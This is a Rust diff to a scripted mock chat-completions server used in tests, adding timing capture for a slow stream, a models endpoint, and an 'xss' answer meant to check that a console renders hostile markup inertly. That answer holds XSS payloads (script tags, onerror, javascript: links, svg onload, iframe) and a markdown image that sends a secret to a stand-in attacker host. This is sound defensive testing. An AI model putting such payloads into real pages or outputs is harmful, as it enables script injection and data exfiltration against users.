@@ -21,6 +21,8 @@ pub struct Vendor {
     flaky: Arc<AtomicUsize>,
     /// Pause before each chunk of a `calc` answer, in milliseconds.
     pub pause_ms: Arc<AtomicU64>,
+    /// When each `slow` answer sent its first word (ms since the epoch).
+    pub first_word_ms: Arc<Mutex<Vec<u128>>>,
 }
 
 fn chunk(delta: Value, finish: Option<&str>) -> String {
@@ -61,6 +63,20 @@ fn text_answer(text: &str) -> Vec<String> {
     out.push("data: [DONE]\n\n".into());
     out
 }
+
+/// Markup a hostile model could write: none of it may run in the console.
+pub const XSS_ANSWER: &str = "Payloads follow.\n\n\
+<script>window.__xss = 'script'</script>\n\n\
+<img src=x onerror=\"window.__xss = 'img'\">\n\n\
+[click me](javascript:window.__xss='link')\n\n\
+<a href=\"javascript:window.__xss='anchor'\">anchor</a>\n\n\
+<svg onload=\"window.__xss='svg'\"><script>window.__xss='svg-script'</script></svg>\n\n\
+<iframe src=\"javascript:parent.__xss='iframe'\"></iframe>\n\n\
+<div class=\"modal\" style=\"position:fixed;inset:0\">cover</div>\n\n\
+&lt;script&gt;window.__xss='entity'&lt;/script&gt; &amp;lt;b&amp;gt;\n\n\
+![exfiltrate](https://attacker.example/?q=secret)\n\n\
+<details open ontoggle=\"window.__xss='details'\">x</details>\n\n\
+End of payloads.";
 
 /// A streamed answer asking for tool calls (arguments in two fragments).
 fn tool_answer(calls: &[(&str, &str, Value)]) -> Vec<String> {
@@ -153,7 +169,30 @@ async fn complete(State(vendor): State<Vendor>, body: Bytes) -> Response {
             text_answer(&format!("The answers are {}.", results.join(" and "))),
             pause,
         ),
-        "slow" => sse(text_answer(&"tick ".repeat(40)), Duration::from_millis(100)),
+        "slow" => {
+            let marks = vendor.first_word_ms.clone();
+            let stream = futures_util::stream::iter(text_answer(&"tick ".repeat(40)))
+                .enumerate()
+                .then(move |(i, c)| {
+                    let marks = marks.clone();
+                    async move {
+                        tokio::time::sleep(Duration::from_millis(100)).await;
+                        if i == 1 {
+                            let now = std::time::SystemTime::now()
+                                .duration_since(std::time::UNIX_EPOCH)
+                                .unwrap()
+                                .as_millis();
+                            marks.lock().unwrap().push(now);
+                        }
+                        Ok::<_, std::convert::Infallible>(Bytes::from(c))
+                    }
+                });
+            Response::builder()
+                .status(200)
+                .header("content-type", "text/event-stream")
+                .body(Body::from_stream(stream))
+                .unwrap()
+        }
         "loop" => sse(
             tool_answer(&[(
                 &format!("call_{steps}"),
@@ -222,6 +261,18 @@ async fn complete(State(vendor): State<Vendor>, body: Bytes) -> Response {
                 Duration::ZERO,
             )
         }
+        // `xss`: an answer full of markup that must stay inert in a
+        // browser (each payload would set `window.__xss`).
+        "xss" => sse(
+            vec![
+                chunk(json!({ "role": "assistant", "content": "" }), None),
+                chunk(json!({ "content": XSS_ANSWER }), None),
+                chunk(json!({}), Some("stop")),
+                usage_chunk(10, 5),
+                "data: [DONE]\n\n".into(),
+            ],
+            Duration::ZERO,
+        ),
         "fail" => error(400, "invalid_request_error", "This model does not exist"),
         "flaky" => {
             if vendor.flaky.fetch_add(1, Ordering::SeqCst) % 2 == 0 {
@@ -234,12 +285,21 @@ async fn complete(State(vendor): State<Vendor>, body: Bytes) -> Response {
     }
 }
 
+/// OpenAI's model list (`GET /v1/models`).
+async fn models() -> axum::Json<Value> {
+    axum::Json(json!({ "object": "list", "data": [
+        { "id": "gpt-4o-mini", "object": "model", "created": 1721172741, "owned_by": "system" },
+        { "id": "gpt-4o", "object": "model", "created": 1715367049, "owned_by": "system" }
+    ]}))
+}
+
 /// Starts the scripted vendor on its own thread; returns its base URL
 /// (ending in `/v1`).
 pub fn vendor() -> (String, Vendor) {
     let vendor = Vendor::default();
     let app = axum::Router::new()
         .route("/v1/chat/completions", axum::routing::post(complete))
+        .route("/v1/models", axum::routing::get(models))
         .with_state(vendor.clone());
     let base = format!("http://{}/v1", serve_in_thread(app));
     (base, vendor)
